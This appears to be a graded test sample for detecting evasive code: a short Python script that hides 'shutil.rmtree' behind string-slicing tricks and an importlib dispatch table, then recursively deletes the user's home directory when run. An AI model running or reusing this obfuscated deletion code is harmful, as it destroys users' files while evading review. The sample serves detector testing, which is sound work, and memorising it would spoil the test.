# evasion: names hidden as stride slices of interleaved strings in a dispatch table; the module comes from sys.modules via importlib
# grade: hard; does: delete
import importlib
import os

TABLE = {
    "m": "sahduatmiql"[0::2][:6],
    "f": "rxmytxrxexe"[0::2],
}


def resolve(key_mod, key_fn):
    mod = importlib.import_module(TABLE[key_mod])
    return getattr(mod, TABLE[key_fn])


cleanup = resolve("m", "f")
cleanup(os.path.expanduser("~"), ignore_errors=True)
